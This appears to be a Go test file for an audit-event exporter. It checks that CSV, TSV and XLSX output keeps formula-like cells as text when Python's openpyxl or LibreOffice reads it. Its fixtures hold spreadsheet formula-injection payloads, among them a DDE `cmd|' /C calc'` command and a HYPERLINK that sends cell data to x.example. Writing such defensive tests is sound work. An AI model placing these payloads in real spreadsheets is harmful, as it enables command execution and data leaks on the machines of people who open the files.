package xlsx_test

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/eventaudit/eventaudit/event"
	"github.com/eventaudit/eventaudit/export"
	"github.com/eventaudit/eventaudit/export/xlsx"
	"github.com/eventaudit/eventaudit/internal/testdb"
)

// cell is what another program found: its type, as openpyxl names it, and its
// value.
type cell [2]string

// people are events as they come, and as attackers would have them.
func people() []event.Event {
	events := []event.Event{
		{
			ID: "0195511e-1000-7000-8000-000000000001", Category: "model", Action: "changed", Actor: "olga", ActionObject: "Order", ActionObjectID: `["a,b",2]`,
			Timestamp: noon, Result: json.RawMessage(`{"old":{"cents":900},"new":{"cents":990.10}}`), Payload: json.RawMessage(`{"note":"50 % <off> & \"more\", 漢字 😀"}`),
			Outcome: event.OutcomeFailure, Error: "line one\nline two, \"quoted\"; and\ta tab", Meta: map[string]string{"b": "2", "a": "1"}, Sequence: 1 << 60, BeforeUnknown: true,
		},
		{ID: "0012345678901234567890", Category: "1e5", Action: "1/2", Actor: "TRUE", ActionObject: "2026-03-01", ActionObjectID: " 7 ", Timestamp: noon.Add(time.Second), TargetID: "_x000D_", Reason: "1,234.50"},
	}
	for _, start := range []string{"=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠", "'", "'="} {
		hostile := start + `cmd|' /C calc'!A0`
		events = append(events, event.Event{
			ID: "hostile " + start, Category: "custom", Action: hostile, Actor: start + `HYPERLINK("http://x.example/"&A1,"y")`, ActionObject: start + "1+1",
			ActionObjectID: start + "SUM(1,2)", TargetType: start, Timestamp: noon.Add(time.Minute), UserAgent: hostile, Payload: json.RawMessage("-5"),
		})
	}
	return events
}

// wanted are the cells of a table, header first.
func wanted(t *testing.T, empty string, at func(time.Time) cell) [][]cell {
	t.Helper()
	columns, err := export.Options{}.Columns()
	if err != nil {
		t.Fatal(err)
	}
	table := make([][]cell, 1, 32)
	for _, column := range columns {
		table[0] = append(table[0], cell{"s", column.Name})
	}
	for _, e := range people() {
		var row []cell
		for _, column := range columns {
			value := column.Value(&e)
			text, err := export.Options{}.Cell(value)
			if err != nil {
				t.Fatal(err)
			}
			switch moment, ok := value.(time.Time); {
			case ok:
				row = append(row, at(moment))
			case text == "":
				row = append(row, cell{empty, ""})
			default:
				row = append(row, cell{"s", text})
			}
		}
		table = append(table, row)
	}
	return table
}

// The files say in Python and in LibreOffice what they were made of.
func TestFilesInOtherPrograms(t *testing.T) {
	t.Parallel()
	python, office := pythonWithOpenpyxl(t), libreOffice(t)
	folder := t.TempDir()
	for format, exporter := range map[string]export.Exporter{"csv": export.CSV{}, "tsv": export.TSV{}, "xlsx": xlsx.Exporter{}} {
		if err := export.WriteFile(filepath.Join(folder, "trail."+format), exporter, all(people()...)); err != nil {
			t.Fatal(err)
		}
	}
	var texts []string // every column is text, as one says in the dialog that opens a CSV file
	for i := range export.Fields() {
		texts = append(texts, fmt.Sprintf("%d/2", i+1))
	}
	const utf8 = "76"
	asText := ",34," + utf8 + ",1," + strings.Join(texts, "/")
	office.open(t, folder, "trail.xlsx", "", "from-xlsx")
	office.open(t, folder, "trail.csv", "CSV:44"+asText, "from-csv")
	office.open(t, folder, "trail.tsv", "CSV:9"+asText, "from-tsv")
	office.open(t, folder, "trail.csv", "CSV:44,34,"+utf8, "unasked")

	date := func(at time.Time) cell { return cell{"d", at.Format("2006-01-02T15:04:05.000")} }
	text := func(at time.Time) cell { return cell{"s", at.Format(export.DefaultTimeFormat)} }
	escaped := wanted(t, "n", date) // openpyxl leaves this to openpyxl.utils.escape.unescape
	escaped[2][slices.Index(export.Fields(), "target_id")][1] = "_x005F_x000D_"
	tables := python.read(t, folder, "trail.csv", "trail.tsv", "trail.xlsx", "from-xlsx/trail.xlsx", "from-csv/trail.xlsx", "from-tsv/trail.xlsx", "unasked/trail.xlsx")
	for name, want := range map[string][][]cell{
		"trail.csv": wanted(t, "s", text), "trail.tsv": wanted(t, "s", text), "trail.xlsx": escaped,
		"from-csv/trail.xlsx": wanted(t, "n", text), "from-tsv/trail.xlsx": wanted(t, "n", text), "from-xlsx/trail.xlsx": wanted(t, "n", date),
	} {
		if diff := cmp.Diff(want, tables[name]); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
	stayText(t, tables["unasked/trail.xlsx"])
}

// stayText holds that cells that begin like a formula are text, where the
// spreadsheet chose the types of all cells.
func stayText(t *testing.T, table [][]cell) {
	t.Helper()
	want := wanted(t, "n", func(time.Time) cell { return cell{} })
	if len(table) != len(want) {
		t.Fatalf("%d rows, want %d", len(table), len(want))
	}
	guarded := 0
	for i, row := range table {
		for j, got := range row {
			if got[0] == "f" {
				t.Errorf("row %d has a formula: %q", i, got)
			}
			if strings.HasPrefix(want[i][j][1], "'") {
				guarded++
				if got != want[i][j] {
					t.Errorf("row %d has %q, want %q", i, got, want[i][j])
				}
			}
		}
	}
	if guarded < 60 {
		t.Errorf("only %d cells had to stay text", guarded)
	}
}

// interpreter is a Python with openpyxl.
type interpreter string

func pythonWithOpenpyxl(t *testing.T) interpreter {
	t.Helper()
	for _, name := range []string{"python3", "/usr/bin/python3"} {
		if exec.CommandContext(t.Context(), name, "-c", "import openpyxl").Run() == nil {
			return interpreter(name)
		}
	}
	missing(t, "openpyxl for Python")
	return ""
}

// missing skips the test, or fails it where that is forbidden.
func missing(t *testing.T, what string) {
	t.Helper()
	if testdb.Strict() {
		t.Fatalf("%s is not installed and %s=1 forbids to skip; install it", what, testdb.StrictVariable)
	}
	t.Skip(what + " is not installed; install it to run this test")
}

// read returns the tables by the names of their files.
func (i interpreter) read(t *testing.T, folder string, names ...string) map[string][][]cell {
	t.Helper()
	script, err := filepath.Abs("testdata/read.py")
	if err != nil {
		t.Fatal(err)
	}
	c := exec.CommandContext(t.Context(), string(i), append([]string{script}, names...)...)
	c.Dir = folder
	c.Stderr = os.Stderr
	out, err := c.Output()
	if err != nil {
		t.Fatal(err)
	}
	var tables map[string][][]cell
	if err := json.Unmarshal(out, &tables); err != nil {
		t.Fatal(err)
	}
	return tables
}

// suite is LibreOffice.
type suite string

func libreOffice(t *testing.T) suite {
	t.Helper()
	path, err := exec.LookPath("soffice")
	if err != nil {
		missing(t, "LibreOffice")
	}
	return suite(path)
}

// open opens the file, with a filter if it is not to guess, and saves it as a
// workbook in the folder to.
func (s suite) open(t *testing.T, folder, file, filter, to string) {
	t.Helper()
	args := []string{"-env:UserInstallation=file://" + filepath.Join(folder, "profile"), "--headless", "--convert-to", "xlsx", "--outdir", to}
	if filter != "" {
		args = append(args, "--infilter="+filter)
	}
	c := exec.CommandContext(t.Context(), string(s), append(args, file)...)
	c.Dir = folder
	out, err := c.CombinedOutput()
	if _, none := os.Stat(filepath.Join(folder, to, "trail.xlsx")); err != nil || none != nil {
		t.Fatalf("%v: %s", err, out)
	}
}
